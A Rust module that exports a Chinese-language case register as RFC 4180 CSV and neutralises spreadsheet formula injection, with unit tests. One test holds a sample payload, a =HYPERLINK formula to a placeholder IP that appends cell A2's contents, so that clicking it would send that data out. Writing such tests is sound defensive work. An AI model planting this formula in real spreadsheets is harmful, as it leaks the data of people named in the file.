//! The register as CSV: RFC 4180, in UTF-8 with a byte order mark, and with no cell that a program would carry out.
//!
//! Invariants: lines end with CR LF, the last as well; a cell that begins like a formula is a text in every program that
//! opens the file, because an apostrophe stands before it; nothing else of a text is changed.

use casework::register::{Cell, Column, Lang, written};

/// Tells programs on a Chinese Windows that the file is no GBK.
const BYTE_ORDER_MARK: &str = "\u{FEFF}";

/// What begins a formula, or lets one begin, in Excel, WPS or LibreOffice, in both widths that an input method has.
const ARMED: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// Characters that are not seen, and that programs pass over as they do blanks.
const UNSEEN: [char; 4] = ['\u{200B}', '\u{200C}', '\u{200D}', '\u{FEFF}'];

/// The first line: the byte order mark and the heads.
pub(crate) fn head(lang: Lang) -> String {
    let mut line = BYTE_ORDER_MARK.to_owned();
    let heads = Column::ALL.iter().map(|column| column.head(lang).to_owned());
    push_line(&mut line, heads);
    line
}

/// Adds the line of a case.
pub(crate) fn push_row(out: &mut String, cells: Vec<Cell>) {
    let texts = cells.into_iter().map(|cell| match cell {
        Cell::Empty => String::new(),
        Cell::Text(text) => disarmed(text),
        Cell::Time(at) => written(at),
        Cell::Count(count) => count.to_string(),
    });
    push_line(out, texts);
}

fn push_line(out: &mut String, cells: impl Iterator<Item = String>) {
    for (index, cell) in cells.enumerate() {
        if index > 0 {
            out.push(',');
        }
        if needs_quotes(&cell) {
            out.push('"');
            out.push_str(&cell.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&cell);
        }
    }
    out.push_str("\r\n");
}

/// Also where another separator than the comma is expected, a text stays one cell.
fn needs_quotes(cell: &str) -> bool {
    let is_at_an_end = |text: &str| text.trim() != text;
    cell.contains(['"', ',', ';', '\t', '\r', '\n']) || is_at_an_end(cell)
}

/// Whether a program might take the text for a formula: it begins like one, blanks aside.
pub(crate) fn is_armed(text: &str) -> bool {
    let is_blank = |c: char| (c.is_whitespace() && !ARMED.contains(&c)) || UNSEEN.contains(&c);
    text.trim_start_matches(is_blank).starts_with(ARMED)
}

fn disarmed(text: String) -> String {
    if is_armed(&text) { format!("'{text}") } else { text }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::at;

    fn line(cells: Vec<Cell>) -> String {
        let mut line = String::new();
        push_row(&mut line, cells);
        line
    }

    fn of_text(text: &str) -> String {
        line(vec![Cell::Text(text.to_owned())])
    }

    #[test]
    fn the_file_begins_with_a_byte_order_mark_and_the_heads() {
        let head = head(Lang::Zh);
        assert!(head.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]));
        assert!(head.starts_with("\u{FEFF}编号,登记时间,中心,"), "{head}");
        assert!(head.ends_with(",整改,改进措施,晚到送达时间\r\n"), "{head}");
    }

    #[test]
    fn cells_are_quoted_as_rfc_4180_says() {
        let cells = vec![
            Cell::Text("a".to_owned()),
            Cell::Empty,
            Cell::Count(3),
            Cell::Time(at("2026-03-04T10:00:30")),
        ];
        assert_eq!(line(cells), "a,,3,2026-03-04 10:00\r\n");
        assert_eq!(of_text("a,b"), "\"a,b\"\r\n");
        assert_eq!(of_text("说\"不\""), "\"说\"\"不\"\"\"\r\n");
        assert_eq!(of_text("a\r\nb"), "\"a\r\nb\"\r\n");
        assert_eq!(of_text("a;b"), "\"a;b\"\r\n");
        assert_eq!(of_text("是；进行中"), "是；进行中\r\n");
        assert_eq!(of_text(" a"), "\" a\"\r\n");
    }

    #[test]
    fn what_begins_like_a_formula_is_disarmed_whatever_stands_before_it() {
        for armed in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "＋1",
            "－1",
            "＠a",
            " =1",
            "\u{3000}=1",
            "\u{a0}-1",
            "\u{200B}=1",
            " \u{FEFF}\u{3000}＝1",
            "  \t1",
        ] {
            let text = disarmed(armed.to_owned());
            assert_eq!(text, format!("'{armed}"));
            assert!(!is_armed(&text), "{text:?}");
        }
        for harmless in ["", "   ", "1-1", "a=b", "138****1234", "'=1", "—一", "张*三", "《=》"]
        {
            assert_eq!(disarmed(harmless.to_owned()), harmless);
        }
    }

    #[test]
    fn a_disarmed_link_stays_one_cell() {
        let link = "=HYPERLINK(\"http://198.51.100.1/?\"&A2,\"点我\")";
        let expected = "\"'=HYPERLINK(\"\"http://198.51.100.1/?\"\"&A2,\"\"点我\"\")\"\r\n";
        assert_eq!(of_text(link), expected);
    }
}
